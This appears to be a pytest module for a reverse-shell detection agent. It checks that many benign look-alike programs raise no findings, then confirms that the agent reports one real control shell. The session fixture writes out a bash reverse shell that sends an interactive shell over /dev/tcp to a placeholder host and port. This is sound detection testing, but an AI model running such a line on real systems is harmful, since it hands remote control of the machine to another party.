"""Ordinary work that resembles a remote shell, many cases at a time, before one real agent, which must be silent."""

from __future__ import annotations

import os
import time
from collections.abc import Iterator, Mapping
from concurrent.futures import Future
from pathlib import Path

import msgspec
import pytest

from benign.cases import ALL, Case
from live.account import Account
from live.agent import LiveAgent, Reported, live_agent
from live.campaign import chosen, lacking, run_all
from live.channels import Transport
from live.programs import Language, prepare, turn
from live.shells import Outcome, Speech, control
from live.web import web_server
from live.work import Done, work

MEDIUM, HIGH = 3, 4
"""OCSF severity_id."""
SETTLE_S = 2.0
"""Time in which an agent that was to say something would have said it."""
BROKER = """
[[detect.trusted_broker]]
exe = "*/python*"
argv = ["*/trusted-broker/main.py"]
"""

each_case = pytest.mark.parametrize("case", ALL, ids=lambda case: case.name)


class Session(msgspec.Struct, frozen=True):
    """What happened in this module."""

    cases: Mapping[str, Future[Done]]
    findings: list[Reported]
    """Reported until then, at least of medium severity."""
    control: Outcome
    """A real shell afterwards."""


@pytest.fixture(scope="module")
def agent(account: Account, folder: Path) -> Iterator[LiveAgent]:
    """The one agent of this module; the broker of one case is registered with it."""
    with live_agent(account, folder / "agent", BROKER) as running:
        yield running


@pytest.fixture(scope="module")
def session(request: pytest.FixtureRequest, account: Account, folder: Path, agent: LiveAgent) -> Session:
    """All chosen cases, over; then one real shell."""
    with web_server() as web:

        def run(case: Case) -> Done:
            command = prepare(account, folder / case.name, case.language, case.text)
            with turn(case.language):
                return work(account, folder / case.name, command, {"WEB": web}, case.expects)

        cases = run_all(chosen(request, ALL), run)
    time.sleep(SETTLE_S)
    findings = [finding for finding in agent.findings() if finding.severity >= MEDIUM]
    text = "exec bash -i <>/dev/tcp/$HOST/$PORT >&0 2>&0"
    command = prepare(account, folder / "control", Language.BASH, text)
    return Session(cases, findings, control(account, folder / "control", command, Transport.TCP, Speech.SH))


def done_of(case: Case, session: Session) -> Done:
    """Return what became of a case; skip the test where this machine lacks a program."""
    if (reason := lacking(case)) is not None:
        pytest.skip(reason)
    return session.cases[case.name].result()


def is_nobodys(finding: Reported, known: frozenset[int]) -> bool:
    """Return whether a finding belongs to no case, and not to another program of this machine either.

    The line of a process that these tests did not start reaches pid 1 without passing them.
    """
    foreign = 1 in finding.line_pids and os.getpid() not in finding.line_pids
    return not foreign and not finding.line_pids & known


@each_case
def test_case_is_real(case: Case, session: Session) -> None:
    """The program does its work to the end beside a watching agent."""
    done = done_of(case, session)
    assert done.done, done.said


@each_case
def test_look_alike_is_not_reported(case: Case, session: Session) -> None:
    """No finding from medium severity on names a process of ordinary work, or one of nobody's while it ran."""
    done = done_of(case, session)
    known = frozenset[int]().union(*(other.result().pids for other in session.cases.values() if not other.exception()))
    assert [
        finding
        for finding in session.findings
        if finding.line_pids & done.pids
        or (is_nobodys(finding, known) and done.started <= finding.at <= done.ended + SETTLE_S)
    ] == []


def test_agent_was_watching(session: Session, agent: LiveAgent) -> None:
    """The silence means something: the same agent reports a real shell that comes after all the look-alikes."""
    assert session.control.proved, session.control.said
    assert agent.wait_finding(session.control.pids, HIGH, SETTLE_S), agent.log()
